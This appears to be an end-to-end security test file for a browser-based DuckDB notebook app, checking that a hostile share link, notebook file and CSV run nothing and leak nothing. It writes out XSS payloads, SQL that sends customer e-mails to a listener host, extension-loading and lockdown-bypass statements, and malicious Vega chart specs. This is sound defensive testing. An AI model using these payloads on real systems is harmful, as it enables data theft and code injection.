/**
 * The hostile suite (RELIABILITY.md T1–T7, cases 1, 2, 5, 6, 7, 12, 13, 15): an attacker's
 * notebook delivered the way an attacker would (a crafted share link, and a .segbook.json file
 * opened through the Notebook menu), run by the victim on a hostile CSV loaded through the file
 * input. A listener of ours on another port records every hit; it must receive nothing. Every
 * attempt shows an error or renders as inert text: the text is visible literally and no element
 * it describes exists; `window.__pwned` (what each payload would set) stays undefined; no page
 * error; the browser's request log shows no other origin.
 *
 * Also here: the one e2e check on exports carrying no personal data unless the user opts in.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newChartCell, newNotesCell, newSqlCell, type Notebook } from '../../src/notebook/model';
import { encodeNotebookFile, encodeShareLink } from '../../src/notebook/share-link';
import {
	chromiumPath,
	cspViolations,
	foreignRequests,
	openSession,
	recordCspViolations,
	type Session
} from '../helpers/browser';
import { serve } from '../helpers/serve.mjs';
import { fillSql, textOf } from '../helpers/ui';

const browser = chromiumPath();
if (!browser && process.env.CI)
	throw new Error('CI=true but no Chromium: install Debian chromium.');

const PWN = 'window.__pwned=1';
const IMG = `<img src=x onerror=${PWN}>`;
const BOLD = '<b>hostile-bold</b>';

/**
 * A customer-level export whose header and values carry HTML and reserved JS names: the key's
 * values hold an <img onerror>, a category holds <b>, and columns are called `__proto__`,
 * `constructor` and `<img …>`.
 */
function hostileCsv(): string {
	const header = ['customer_id', 'email', '__proto__', 'constructor', IMG, BOLD];
	const q = (s: string): string => `"${s.replaceAll('"', '""')}"`;
	const lines = [header.map(q).join(',')];
	for (let i = 1; i <= 120; i++) {
		const group = i % 3;
		lines.push(
			[
				q(`${IMG}-${i}`),
				`user${i}@example.com`,
				String(10 + group * 100 + (i % 7)),
				String(1 + group * 5 + (i % 2)),
				String(group * 50 + (i % 5)),
				q(group === 0 ? BOLD : group === 1 ? IMG : 'plain')
			].join(',')
		);
	}
	return lines.join('\n') + '\n';
}

let site: Awaited<ReturnType<typeof serve>>;
let session: Session;
let page: Page;
let sink: Server;
const sinkHits: string[] = [];
let sinkUrl = '';
let csvPath = '';

/** Every trace a payload could leave in the page. */
async function noPayloadRan(): Promise<void> {
	const traces = await page.evaluate(() => ({
		pwned: (window as unknown as { __pwned?: unknown }).__pwned,
		onerror: document.querySelectorAll('[onerror]').length,
		imgX: document.querySelectorAll('img[src="x"]').length,
		scripts: [...document.querySelectorAll('script')].filter((s) =>
			s.textContent?.includes('__pwned')
		).length,
		bold: [...document.querySelectorAll('b')].filter((b) => b.textContent === 'hostile-bold')
			.length,
		jsLinks: [...document.querySelectorAll('a[href]')].filter((a) =>
			/^\s*javascript:/i.test(a.getAttribute('href') ?? '')
		).length,
		// Anything that loads by itself (a link needs a click, and opens without a referrer).
		sinkRefs: [...document.querySelectorAll('[src], link[href], image, use')].filter((e) =>
			/127\.0\.0\.1:\d+\/(?!$)/.test(
				`${e.getAttribute('src') ?? ''}${e.getAttribute('href') ?? ''}${e.getAttribute('xlink:href') ?? ''}`
			)
		).length
	}));
	expect(traces).toEqual({
		pwned: undefined,
		onerror: 0,
		imgX: 0,
		scripts: 0,
		bold: 0,
		jsLinks: 0,
		sinkRefs: 0
	});
}

async function runCell(cell: Locator): Promise<void> {
	await cell.getByRole('button', { name: 'Run cell' }).click();
}

/** The attacker's SQL: each statement tries to reach the listener or undo the lockdown. */
function attackSql(sink: string): { sql: string; expect: RegExp }[] {
	const refused = /disabled|locked|turned off|cannot be installed|not allowed|Permission/i;
	return [
		{ sql: `SELECT * FROM '${sink}/direct.csv?d=user1@example.com'`, expect: refused },
		{
			sql: `SELECT * FROM read_csv('${sink}/readcsv.csv?d=user2@example.com')`,
			expect: refused
		},
		{
			sql: `SET VARIABLE u = (SELECT '${sink}/var?d=' || string_agg(email, ',') FROM hostile); SELECT * FROM read_text(getvariable('u'))`,
			expect: refused
		},
		{
			sql: `SET VARIABLE u = (SELECT '${sink}/var.parquet?d=' || string_agg(email, ',') FROM hostile); SELECT * FROM read_parquet(getvariable('u'))`,
			expect: refused
		},
		{ sql: `COPY (SELECT email FROM hostile) TO '${sink}/copy.csv'`, expect: refused },
		{ sql: `ATTACH '${sink}/attach.duckdb?d=user3@example.com' AS evil`, expect: refused },
		{ sql: `INSTALL httpfs FROM '${sink}'`, expect: refused },
		{ sql: `LOAD '${sink}/evil.duckdb_extension'`, expect: refused },
		{ sql: `FORCE INSTALL json FROM '${sink}'`, expect: refused },
		{ sql: `SET custom_extension_repository = '${sink}'`, expect: /locked/i },
		{ sql: `SET autoinstall_extension_repository = '${sink}'`, expect: /locked/i },
		{ sql: `RESET enable_external_access`, expect: /locked/i },
		{ sql: `SET lock_configuration = false`, expect: /locked/i },
		{ sql: `SET allowed_directories = ['/', '${sink}']`, expect: /locked/i },
		{ sql: `SET GLOBAL enable_external_access = true`, expect: /locked/i },
		{ sql: `SELECT * FROM glob('${sink}/*')`, expect: refused },
		{ sql: `SELECT * FROM read_json('${sink}/j.json?d=user4@example.com')`, expect: refused }
	];
}

const MARKDOWN = (sink: string): string =>
	[
		'# Read me',
		'<script>window.__pwned=1</script>',
		'',
		`<img src=x onerror=${PWN}>`,
		'',
		`[click me](javascript:${PWN})`,
		'',
		`![beacon](${sink}/beacon.png)`,
		'',
		`<a href="${sink}/raw-link">raw link</a>`
	].join('\n');

/** Chart specs an attacker would try: every one is refused before anything is drawn. */
function attackSpecs(sink: string): { spec: unknown; expect: RegExp }[] {
	const values = [{ a: 1, h: `${sink}/h` }];
	return [
		{ spec: { data: { url: `${sink}/data.csv?d=1` }, mark: 'point' }, expect: /not allowed/ },
		{
			spec: {
				data: { values },
				mark: 'image',
				encoding: { url: { value: `${sink}/img.png` } }
			},
			expect: /not allowed/
		},
		{
			spec: {
				data: { values },
				transform: [{ calculate: `'${sink}/img.png?e=' + datum.a`, as: 'u' }],
				mark: { type: 'image' },
				encoding: { url: { field: 'u' } }
			},
			expect: /not allowed/
		},
		{
			spec: { data: { values }, mark: 'point', encoding: { href: { field: 'h' } } },
			expect: /not allowed/
		},
		{
			spec: { data: { values }, mark: { type: 'point', href: `javascript:${PWN}` } },
			expect: /not allowed/
		},
		{
			spec: {
				data: { values },
				transform: [{ calculate: "'javas' + 'cript:window.__pwned=1'", as: 'j' }],
				mark: 'point',
				encoding: { x: { field: 'a' }, href: { field: 'j' } }
			},
			expect: /not allowed/
		},
		{
			// JSON.parse keeps "__proto__" as an own key, as a link's JSON would.
			spec: JSON.parse(
				'{"data":{"values":[{"a":1}]},"mark":"point","usermeta":{"embedOptions":{"loader":{}}},"config":{"__proto__":{"polluted":"yes"}}}'
			) as unknown,
			expect: /not allowed|reserved/
		}
	];
}

/** A spec with no link in it that tries expression tricks: it may draw or fail, never run code. */
const EXPRESSION_SPEC = {
	data: { values: [{ a: 1 }, { a: 2 }] },
	params: [{ name: 'p', expr: "constructor.constructor('window.__pwned=1')()" }],
	transform: [{ calculate: "datum.a + ''", as: 'b' }],
	mark: 'point',
	encoding: { x: { field: 'a', type: 'quantitative' } }
};

function attackerNotebook(sink: string): Notebook {
	return {
		version: 2,
		title: '<img src=x onerror=window.__pwned=1> Segmentation template',
		cells: [newNotesCell(MARKDOWN(sink)), ...attackSql(sink).map((a) => newSqlCell(a.sql))]
	};
}

function attackerFile(sink: string): Notebook {
	const charts = [...attackSpecs(sink).map((a) => a.spec), EXPRESSION_SPEC].map((spec) => ({
		...newChartCell('hostile', ''),
		spec: JSON.stringify(spec)
	}));
	return { version: 2, title: 'Charts for you', cells: charts };
}

describe.skipIf(!browser)('hostile notebooks, files and data in Chromium', () => {
	beforeAll(async () => {
		site = await serve({ dir: 'dist' });
		sink = createServer((req, res) => {
			sinkHits.push(`${req.method ?? ''} ${req.url ?? ''}`);
			res.end('x');
		});
		await new Promise<void>((ok) => sink.listen(0, '127.0.0.1', () => ok()));
		const address = sink.address();
		sinkUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
		csvPath = join(tmpdir(), 'hostile.csv');
		writeFileSync(csvPath, hostileCsv());
		session = await openSession();
		page = session.page;
		await recordCspViolations(session);
		await page.goto(site.url + encodeShareLink(attackerNotebook(sinkUrl)));
		await page
			.getByRole('status')
			.filter({ hasText: /Ready ·/ })
			.waitFor({ timeout: 60_000 });
	});

	afterAll(async () => {
		await session?.close();
		await site?.close();
		sink?.close();
	});

	it('opens the link as a new notebook and runs nothing by itself', async () => {
		await page.getByRole('region', { name: 'Notes 1' }).waitFor({ timeout: 30_000 });
		// Time for anything that would run by itself to have started (RELIABILITY.md §3 case 11).
		await page.waitForTimeout(1500);
		const sql = page.getByRole('region', { name: 'SQL cell 2' });
		expect(await sql.getByRole('alert').count()).toBe(0);
		expect(await textOf(sql)).toMatch(/not run/);
		expect(await page.getByRole('grid').count()).toBe(0);
		// The title is the attacker's text, shown as text.
		expect(await page.getByRole('textbox', { name: 'Notebook title' }).inputValue()).toContain(
			'<img src=x onerror=window.__pwned=1>'
		);
		await noPayloadRan();
	});

	it('shows hostile markdown as inert text: no script, no handler, no javascript: link, no beacon', async () => {
		const notes = page.getByRole('region', { name: 'Notes 1' });
		const text = await textOf(notes);
		expect(text).toContain('<script>window.__pwned=1</script>');
		expect(text).toContain(`<img src=x onerror=${PWN}>`);
		expect(text).toContain('raw link</a>');
		expect(await notes.getByRole('heading', { name: 'Read me' }).count()).toBe(1);
		expect(await notes.locator('script, img, iframe, object, embed').count()).toBe(0);
		expect(await notes.getByRole('link', { name: 'click me' }).count()).toBe(0);
		expect(await notes.getByRole('link', { name: 'raw link' }).count()).toBe(0);
		await noPayloadRan();
	});

	it('loads a CSV whose header and values hold HTML and reserved names, and shows them as text', async () => {
		await page.getByLabel('Load data file').setInputFiles(csvPath);
		const data = page.getByRole('region', { name: 'Data: hostile' });
		await data.waitFor({ timeout: 30_000 });
		await expect.poll(() => textOf(data), { timeout: 60_000 }).toMatch(/120 rows/);
		await expect.poll(() => textOf(data), { timeout: 60_000 }).toContain('Personal data: e-mail');
		const text = await textOf(data);
		for (const name of ['__proto__', 'constructor', IMG, BOLD]) expect(text).toContain(name);
		// Every column kept its name: a type control for each.
		for (const name of ['__proto__', 'constructor', IMG, BOLD]) {
			expect(
				await data.getByRole('combobox', { name: `Type of ${name}`, exact: true }).count()
			).toBe(1);
		}
		await noPayloadRan();
	});

	it('refuses every SQL route to the network or out of the lockdown, naming why', async () => {
		const attacks = attackSql(sinkUrl);
		for (let i = 0; i < attacks.length; i++) {
			const cell = page.getByRole('region', { name: `SQL cell ${i + 2}` });
			await runCell(cell);
			const alert = cell.getByRole('alert');
			await alert.waitFor({ timeout: 30_000 });
			const message = await textOf(alert);
			expect(message, attacks[i]!.sql).toMatch(attacks[i]!.expect);
		}
		expect(sinkHits).toEqual([]);
	});

	it('shows hostile names and values literally in the SQL grid', async () => {
		const cell = page.getByRole('region', { name: 'SQL cell 2' });
		await fillSql(cell, 'SELECT * FROM hostile ORDER BY "constructor" LIMIT 5');
		await runCell(cell);
		const grid = cell.getByRole('grid');
		await grid.waitFor({ timeout: 30_000 });
		const headers = await grid.getByRole('columnheader').allTextContents();
		expect(headers.map((h) => h.trim())).toEqual(
			expect.arrayContaining(['__proto__', 'constructor', IMG, BOLD])
		);
		const cells = await grid.getByRole('gridcell').allTextContents();
		expect(cells.some((c) => c.startsWith(`${IMG}-`))).toBe(true);
		expect(cells).toContain(BOLD);
		// The reserved names hold their numbers, not an object's prototype.
		expect(cells.some((c) => /^\d+$/.test(c.trim()))).toBe(true);
		await noPayloadRan();
	});

	it('segments the hostile file and names personas without running any of it', async () => {
		const personas = page.getByRole('region', { name: 'Personas' });
		await personas.waitFor({ timeout: 120_000 });
		await expect
			.poll(() => personas.getByRole('article').count(), { timeout: 120_000 })
			.toBeGreaterThan(0);
		await noPayloadRan();
	});

	it('looks up a customer whose key is HTML, and shows it as text', async () => {
		await page.getByRole('button', { name: 'Add cell' }).click();
		await page.getByRole('menuitem', { name: 'Customer' }).click();
		const cell = page.getByRole('region', { name: /^Customer/ });
		await cell.getByRole('combobox', { name: 'Customer key' }).fill(`${IMG}-7`);
		await cell.getByRole('button', { name: 'Look up' }).click();
		await expect.poll(() => textOf(cell), { timeout: 60_000 }).toContain(`${IMG}-7`);
		await expect.poll(() => textOf(cell), { timeout: 60_000 }).toMatch(/Segment|segment/);
		await noPayloadRan();
	});

	it('draws a chart of the hostile columns with their names as text', async () => {
		await page.getByRole('button', { name: 'Add cell' }).click();
		await page.getByRole('menuitem', { name: 'Chart' }).click();
		const chart = page.getByRole('region', { name: /^Chart/ }).last();
		await chart.getByRole('combobox', { name: /^Data\b/ }).selectOption('hostile');
		await chart.getByRole('combobox', { name: /^X\b/ }).selectOption(BOLD);
		await chart.getByRole('combobox', { name: /^Y\b/ }).selectOption('__proto__');
		// The drawn chart is a figure; cell tools may hold their own icons.
		const svg = chart.getByRole('figure').locator('svg').first();
		await svg.waitFor({ timeout: 30_000 });
		await expect.poll(() => svg.textContent(), { timeout: 30_000 }).toContain(BOLD);
		// Vega cuts long labels with an ellipsis: the start is enough.
		expect(await svg.textContent()).toContain('<img src=x onerror=');
		expect(await svg.textContent()).toContain('__proto__');
		expect(await chart.getByRole('alert').count()).toBe(0);
		expect(await page.evaluate(() => ({}) as Record<string, unknown>)).toEqual({});
		expect(await page.evaluate(() => (({}) as { polluted?: unknown }).polluted)).toBeUndefined();
		await noPayloadRan();
	});

	it('refuses hostile chart specs from an imported .segbook.json, and runs no expression tricks', async () => {
		const file = join(tmpdir(), 'charts-for-you.segbook.json');
		writeFileSync(file, encodeNotebookFile(attackerFile(sinkUrl)));
		await page.getByLabel('Open notebook file').setInputFiles(file);
		const specs = attackSpecs(sinkUrl);
		for (let i = 0; i < specs.length; i++) {
			const chart = page.getByRole('region', { name: `Chart ${i + 1}` });
			const alert = chart.getByRole('alert');
			await alert.first().waitFor({ timeout: 30_000 });
			expect(await textOf(alert.first()), JSON.stringify(specs[i]!.spec)).toMatch(specs[i]!.expect);
			expect(await chart.getByRole('figure').count()).toBe(0);
		}
		// The expression trick: drawn or refused, but never run.
		const last = page.getByRole('region', { name: `Chart ${specs.length + 1}` });
		await expect
			.poll(
				async () =>
					(await last.getByRole('figure').locator('svg').count()) +
					(await last.getByRole('alert').count()),
				{
					timeout: 30_000
				}
			)
			.toBeGreaterThan(0);
		expect(await page.evaluate(() => (({}) as { polluted?: unknown }).polluted)).toBeUndefined();
		await noPayloadRan();
	});

	it('downloads a result without the personal data in it, unless the user opts in', async () => {
		// The imported notebook replaced the link's cells: a fresh SQL cell on the hostile table.
		await page.getByRole('button', { name: 'Add cell' }).click();
		await page.getByRole('menuitem', { name: 'SQL' }).click();
		const cell = page.getByRole('region', { name: /^SQL cell/ }).last();
		await fillSql(cell, 'SELECT customer_id, email FROM hostile ORDER BY "constructor"');
		await runCell(cell);
		await cell.getByRole('grid').waitFor({ timeout: 30_000 });
		const download = async (): Promise<string> => {
			const [file] = await Promise.all([
				page.waitForEvent('download'),
				cell.getByRole('button', { name: 'Download CSV' }).click()
			]);
			const path = join(tmpdir(), `hostile-result-${Date.now()}.csv`);
			await file.saveAs(path);
			return readFileSync(path, 'utf8');
		};
		const masked = await download();
		expect(masked.split('\n')[0]).toBe('customer_id,email');
		expect(masked).not.toMatch(/user\d+@example\.com/);
		expect(masked).toMatch(/\nu\*\*\*@example\.com|,u\*\*\*@example\.com/);
		await page
			.getByRole('status')
			.filter({ hasText: 'email looks like personal data and is masked' })
			.waitFor({ timeout: 10_000 });
		await cell.getByRole('checkbox', { name: 'Include personal data in exports' }).check();
		expect(await download()).toMatch(/user\d+@example\.com/);
		await cell.getByRole('checkbox', { name: 'Include personal data in exports' }).uncheck();
	});

	it('sends every HTML and script sink through Trusted Types: markup cleaned, foreign scripts refused', async () => {
		const result = await page.evaluate((sink) => {
			const out = { html: '', script: '', worker: '', policy: '' };
			const div = document.createElement('div');
			// The sink under test, on purpose: the policy must clean what reaches it.
			// eslint-disable-next-line no-restricted-syntax
			div.innerHTML = '<img src="x" onerror="window.__pwned=1"><b>kept</b>';
			// eslint-disable-next-line no-restricted-syntax
			out.html = div.innerHTML;
			try {
				document.createElement('script').src = `${sink}/x.js`;
				out.script = 'allowed';
			} catch (e) {
				out.script = String(e);
			}
			try {
				new Worker('data:text/javascript,self.close()');
				out.worker = 'allowed';
			} catch (e) {
				out.worker = String(e);
			}
			try {
				// Only the policies the CSP names may exist: an attacker's own is refused.
				(
					window as unknown as {
						trustedTypes: { createPolicy(n: string, r: object): unknown };
					}
				).trustedTypes.createPolicy('attacker', { createHTML: (h: string) => h });
				out.policy = 'allowed';
			} catch (e) {
				out.policy = String(e);
			}
			return out;
		}, sinkUrl);
		expect(result.html).toBe('<img src="x"><b>kept</b>');
		expect(result.script).toMatch(/Scripts load only from this site/);
		expect(result.worker).toMatch(/Scripts load only from this site/);
		expect(result.policy).not.toBe('allowed');
		await noPayloadRan();
	});

	it('kept everything inside: no page error, no hit on the listener, no request to another origin', async () => {
		// Give any delayed beacon a moment to fire.
		await page.waitForTimeout(500);
		await noPayloadRan();
		expect(session.pageErrors).toEqual([]);
		expect(sinkHits).toEqual([]);
		expect(foreignRequests(session.requests, site.url)).toEqual([]);
		expect((await cspViolations(page)).filter((v) => v.includes('127.0.0.1'))).toEqual([]);
	});
});
